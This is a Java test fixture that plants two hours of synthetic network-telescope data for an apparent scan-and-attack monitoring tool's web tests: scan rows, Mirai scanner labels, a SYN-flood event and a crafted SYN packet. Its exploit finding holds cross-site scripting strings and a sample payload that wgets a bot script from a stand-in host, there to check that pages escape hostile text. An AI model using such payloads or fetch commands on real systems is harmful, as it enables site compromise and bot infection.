package org.noroshi.web;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.noroshi.detect.finding.Confidence;
import org.noroshi.detect.finding.Evidence;
import org.noroshi.detect.finding.Finding;
import org.noroshi.detect.finding.FindingKind;
import org.noroshi.detect.finding.SamplePacket;
import org.noroshi.detect.finding.Subject;
import org.noroshi.store.Commit;
import org.noroshi.store.DataFolder;
import org.noroshi.store.Ledger;
import org.noroshi.store.observed.FindingTable;
import org.noroshi.telescope.table.ColumnBatch;
import org.noroshi.telescope.table.Table;
import org.noroshi.telescope.window.EventTables;
import org.noroshi.telescope.window.ObservationTables;

/**
 * Two hours of a telescope, every window alike, so that all figures can be counted by hand: 100
 * packets of 10 sources in each of 24 windows of five minutes from 2026-03-31T10:00Z on, one sensor
 * of 100 addresses.
 */
final class PlantedTelescope {
  static final Instant FROM = Instant.parse("2026-03-31T10:00:00Z");
  static final Instant TO = Instant.parse("2026-03-31T12:00:00Z");
  static final String SENSOR = "harbour-east";

  /** Scans for investigation. */
  static final String SURVEYOR = "198.51.100.9";

  static final String BOT = "203.0.113.7";
  static final String VICTIM = "192.0.2.80";
  static final String DARK = "198.18.0.5";

  /** Every address that stands anywhere in the tables. */
  static final List<String> ADDRESSES = List.of(SURVEYOR, BOT, VICTIM, DARK, "203.0.113.66");

  /** About a port, with packets; for the community. */
  static final Finding RISING = rising();

  /** About a host; for the community by its label, but not its address. */
  static final Finding TOOL_SCANNER =
      finding(FindingKind.TOOL_SCANNER, new Subject.Address(BOT), Map.of("tool", "mirai"));

  /** For the centre. */
  static final Finding ATTACK =
      finding(FindingKind.ATTACK, new Subject.Address(VICTIM), Map.of("packets", 240L));

  /** With text that a page must not take for its own. */
  static final Finding EXPLOIT =
      finding(
          FindingKind.EXPLOIT_ATTEMPT,
          new Subject.Exploit("<script>alert(1)</script>"),
          Map.of(
              "title",
              "<img src=x onerror=alert(1)>",
              "payload",
              "GET /?x=wget http://203.0.113.66/bot.sh"));

  private static final LocalDate DATE = LocalDate.of(2026, 3, 31);
  private static final int WINDOWS = 24;
  private static final long BILLION = 1_000_000_000L;

  private static boolean planted;

  private PlantedTelescope() {}

  /** Plants it in the world's data folder, once. */
  static synchronized void plant(World world) {
    if (!planted) {
      planted = true;
      try {
        plant(world.settings().data());
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }
  }

  /** Plants it in a folder that may hold a centre's files already. */
  static void plant(Path data) throws IOException {
    Files.createDirectories(data.resolve(".noroshi"));
    try (DataFolder folder = DataFolder.open(data)) {
      Commit commit = folder.begin();
      for (int i = 0; i < WINDOWS; i++) {
        window(commit, FROM.plusSeconds(300L * i));
      }
      for (int hour = 0; hour < 2; hour++) {
        ColumnBatch batch = new ColumnBatch(ObservationTables.SERIES, 32);
        series(batch, FROM.plusSeconds(3600L * hour), "1h", 12, 15);
        commit.write(SENSOR, DATE, batch, false);
      }
      ColumnBatch day = new ColumnBatch(ObservationTables.SERIES, 32);
      series(day, DATE.atStartOfDay(java.time.ZoneOffset.UTC).toInstant(), "1d", 24, 18);
      commit.write(SENSOR, DATE, day, false);
      commit.write(SENSOR, DATE, scans(), false);
      commit.write(SENSOR, DATE, attacks(), false);
      commit.commit(out -> out.writeByte(1), List::of, Ledger.of(folder));
      FindingTable.write(
          folder,
          List.of(
              RISING,
              TOOL_SCANNER,
              ATTACK,
              EXPLOIT,
              finding(
                  FindingKind.INVESTIGATION_SCANNER,
                  new Subject.Address(SURVEYOR),
                  Map.of("ruleHolds", "yes")),
              finding(
                  FindingKind.OWN_HOST,
                  new Subject.Address("192.0.2.80"),
                  Map.of("member", "asagiri-power"))));
    }
  }

  private static void window(Commit commit, Instant start) throws IOException {
    ColumnBatch coverage = new ColumnBatch(ObservationTables.COVERAGE, 1);
    coverage.rows = 1;
    coverage.longs("window")[0] = nanos(start);
    coverage.longs("addresses")[0] = 100;
    coverage.doubles("seconds_up")[0] = 300;
    coverage.longs("packets")[0] = 100;
    coverage.doubles("payload_share")[0] = 1;
    nothing(coverage, 0, "source_bit_bias", "drops", "origin_version", "kind");
    commit.write(SENSOR, DATE, coverage, false);
    ColumnBatch series = new ColumnBatch(ObservationTables.SERIES, 32);
    series(series, start, "5m", 1, 10);
    commit.write(SENSOR, DATE, series, false);
    ColumnBatch flows = new ColumnBatch(ObservationTables.FLOWTUPLE, 4);
    flow(flows, start, 0xc6336409, 445, 5, "JP", 64501, 0);
    for (int i = 0; i < 3; i++) {
      flow(flows, start, 0xcb007107, 23, 20, "US", 64500, 1);
    }
    commit.write(SENSOR, DATE, flows, false);
  }

  private static void flow(
      ColumnBatch flows,
      Instant start,
      int source,
      int port,
      long packets,
      String country,
      int network,
      int mirai) {
    int row = flows.rows++;
    flows.longs("time")[row] = nanos(start);
    flows.ints("src_ip")[row] = source;
    flows.ints("dst_ip")[row] = 0xc6120005;
    flows.ints("dst_port")[row] = port;
    flows.ints("protocol")[row] = 6;
    flows.longs("packet_cnt")[row] = packets;
    flows.ints("is_mirai")[row] = mirai;
    flows.strings("class")[row] = "scanTcp";
    flows.strings("country")[row] = country;
    flows.ints("prefix2asn")[row] = network;
    nothing(flows, row, "src_ip6", "dst_ip6");
  }

  /** The rows of a window, or of as many together. */
  private static void series(
      ColumnBatch batch, Instant start, String resolution, long windows, long sources) {
    label(batch, start, resolution, "total", "", 100 * windows, sources);
    label(batch, start, resolution, "class", "scanTcp", 80 * windows, sources);
    label(batch, start, resolution, "class", "probeUdp", 10 * windows, 2);
    label(batch, start, resolution, "class", "backscatter", 10 * windows, 1);
    label(batch, start, resolution, "tcpPort", "23", 60 * windows, 6);
    label(batch, start, resolution, "tcpPort", "445", 20 * windows, 3);
    label(batch, start, resolution, "udpPort", "53", 10 * windows, 2);
    label(batch, start, resolution, "country", "US", 70 * windows, 7);
    label(batch, start, resolution, "country", "JP", 30 * windows, 3);
    label(batch, start, resolution, "as", "64500", 70 * windows, 7);
    label(batch, start, resolution, "as", "64501", 30 * windows, 3);
    label(batch, start, resolution, "tool", "mirai", 60 * windows, 6);
  }

  private static void label(
      ColumnBatch batch,
      Instant start,
      String resolution,
      String metric,
      String label,
      long packets,
      long sources) {
    int row = batch.rows++;
    batch.longs("window")[row] = nanos(start);
    batch.strings("resolution")[row] = resolution;
    batch.strings("metric")[row] = metric;
    batch.strings("label")[row] = label;
    batch.longs("packets")[row] = packets;
    batch.longs("bytes")[row] = packets * 40;
    batch.longs("sources")[row] = sources;
    nothing(
        batch,
        row,
        "destinations",
        "source_as_count",
        "sketch",
        "single_sources",
        "source_bit_bias");
  }

  private static ColumnBatch scans() {
    ColumnBatch scans = new ColumnBatch(EventTables.SCAN, 2);
    scan(scans, BOT, 0xcb007107, 23, "mirai", 1440, "US", 64500);
    scan(scans, SURVEYOR, 0xc6336409, 445, null, 120, "JP", 64501);
    return scans;
  }

  private static void scan(
      ColumnBatch scans,
      String source,
      int address,
      int port,
      @org.jspecify.annotations.Nullable String tool,
      long packets,
      String country,
      int network) {
    int row = scans.rows++;
    scans.strings("source")[row] = source;
    scans.ints("source_ip")[row] = address;
    scans.ints("port")[row] = port;
    scans.strings("protocol")[row] = "tcp";
    scans.strings("class")[row] = "scanTcp";
    scans.strings("tool")[row] = tool == null ? "" : tool;
    scans.nulls("tool")[row] = tool == null;
    scans.longs("packets")[row] = packets;
    scans.longs("bytes")[row] = packets * 40;
    scans.longs("destinations")[row] = 90;
    scans.longs("first")[row] = nanos(FROM);
    scans.longs("last")[row] = nanos(TO) - 1;
    scans.doubles("duration_seconds")[row] = 7200;
    scans.strings("country")[row] = country;
    scans.ints("asn")[row] = network;
    nothing(scans, row, "tool_chance", "destination_24s", "global_rate");
  }

  private static ColumnBatch attacks() {
    ColumnBatch attacks = new ColumnBatch(EventTables.ATTACK, 1);
    attacks.rows = 1;
    attacks.strings("victim")[0] = VICTIM;
    attacks.ints("victim_ip")[0] = 0xc0000250;
    attacks.longs("victims")[0] = 1;
    attacks.strings("protocol")[0] = "tcp";
    attacks.strings("technique")[0] = "synFlood";
    attacks.longs("packets")[0] = 240;
    attacks.longs("bytes")[0] = 240 * 40;
    attacks.longs("peak_packets_per_minute")[0] = 2;
    attacks.longs("first")[0] = nanos(FROM);
    attacks.longs("last")[0] = nanos(TO) - 1;
    attacks.doubles("duration_seconds")[0] = 7200;
    attacks.longs("dark_destinations")[0] = 50;
    attacks.lists("ports")[0] = new int[] {443};
    attacks.longs("synack")[0] = 240;
    attacks.strings("country")[0] = "JP";
    attacks.ints("asn")[0] = 64501;
    nothing(attacks, 0, "global_rate");
    return attacks;
  }

  private static Finding rising() {
    SamplePacket syn = new SamplePacket(nanos(FROM), syn(), 40);
    Finding bare =
        finding(
            FindingKind.RISING_PORT,
            new Subject.Port("tcp", 23),
            Map.of("hosts", 60L, "expectedHosts", 12.5, "note", "seen from " + BOT));
    return bare.with(bare.evidence().with(List.of(syn)));
  }

  private static Finding finding(FindingKind kind, Subject subject, Map<String, ?> numbers) {
    return Finding.born(
        kind,
        subject,
        SENSOR,
        nanos(FROM),
        nanos(TO) - 1,
        60,
        new Confidence(0.99, Confidence.Meaning.NOT_BY_CHANCE),
        Evidence.of(List.of(nanos(FROM)), numbers));
  }

  /** A TCP SYN from the bot to a dark address, by RFC 791 and RFC 9293, without checksums. */
  private static byte[] syn() {
    return ByteBuffer.allocate(40)
        .put((byte) 0x45)
        .put((byte) 0)
        .putShort((short) 40)
        .putShort((short) 54321)
        .putShort((short) 0)
        .put((byte) 52)
        .put((byte) 6)
        .putShort((short) 0)
        .putInt(0xcb007107)
        .putInt(0xc6120005)
        .putShort((short) 40000)
        .putShort((short) 23)
        .putInt(0xc6120005)
        .putInt(0)
        .put((byte) 0x50)
        .put((byte) 0x02)
        .putShort((short) 1024)
        .putInt(0)
        .array();
  }

  private static void nothing(ColumnBatch batch, int row, String... columns) {
    for (String column : columns) {
      batch.nulls(column)[row] = true;
      Table table = batch.table;
      Object values = batch.arrays[table.indexOf(column)];
      if (values instanceof String[] texts) {
        texts[row] = "";
      } else if (values instanceof byte[][] bytes) {
        bytes[row] = new byte[0];
      }
    }
  }

  private static long nanos(Instant time) {
    return time.getEpochSecond() * BILLION;
  }
}
